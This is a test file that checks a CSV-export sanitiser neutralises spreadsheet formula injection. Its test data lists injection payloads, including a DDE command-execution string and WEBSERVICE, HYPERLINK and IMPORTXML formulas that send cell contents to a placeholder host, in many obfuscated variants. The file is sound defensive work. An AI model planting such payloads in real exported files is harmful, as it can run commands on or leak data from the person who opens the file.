import { describe, expect, it } from 'vitest';
import { Random } from '../lib/random';
import { csvCell, isFormula } from './csvCell';
import { RecordReader } from './reading/records';

const bodies = ['1+1', 'HYPERLINK("http://x","y")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', 'WEBSERVICE("http://x/"&A1)', 'A1\nfoo', '1;2;A1', '1,2,A1', '"a"', 'IMPORTXML(CONCAT("http://x"),"//a")'];
const starters = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const before = ['', ' ', '\n', '\r\n', '\t', '\r', '\u0000', '\u00a0', '\u200b', '\ufeff', '  \n\t', '\u202e', '\u3000'];
const payloads = before.flatMap((lead) => starters.flatMap((start) => bodies.map((body) => lead + start + body)));

/** The first letter a spreadsheet would look at. */
const firstLetter = (cell: string): string => cell.replace(/^[\s\u0000-\u001f\u00a0\u200b-\u200f\u202a-\u202e\ufeff]+/, '')[0] ?? ''; // oxlint-disable-line no-control-regex

describe('formula payloads', () => {
  it(`are made plain, ${payloads.length} of them, and come back as one cell`, () => {
    for (const payload of payloads) {
      for (const delimiter of [',', ';', '\t', '|']) {
        const cell = csvCell(payload, delimiter);
        const back = new RecordReader(delimiter).push(`x${delimiter}${cell}${delimiter}y\n`, true);
        expect(back.rows).toEqual([['x', `'${payload}`, 'y']]);
        expect(starters).not.toContain(firstLetter(back.rows[0][1]));
      }
    }
  });

  it.each(['\t1+1', '\rfoo', '\nfoo', '\u0000foo', '=', '@', '=-1', '+a', '-1 hour', '-1+2', '-', '+', '--', '%0A=1', "'=1", 'a=1', '1-2', ''].map((text) => [text]))('judges %j', (text) => {
    const harmless = ['-', '+', '--', '%0A=1', "'=1", 'a=1', '1-2', ''];
    expect(isFormula(text)).toBe(!harmless.includes(text));
  });
});

it('leaves numbers alone', () => {
  for (const number of ['-5', '+3', '-1e-7', '-0.5', '+.5', '1e+21', '-3,5', ' -5 ']) expect(csvCell(number, ';')).toBe(number);
  expect(csvCell('-3,5', ',')).toBe('"-3,5"');
});

it('gives back any text that is not a formula, unchanged', () => {
  const random = new Random(1);
  const letters = ['a', '"', ',', ';', '\t', '\n', '\r', '\r\n', ' ', '|', 'é', '가', "'", '1', '.', '\u0000'];
  for (let k = 0; k < 3000; k++) {
    const text = `x${Array.from({ length: random.integer(9) }, () => letters[random.integer(letters.length)]).join('')}`;
    const back = new RecordReader(',').push(`${csvCell(text)},end\n`, true);
    expect(back.rows).toEqual([[text, 'end']]);
  }
});
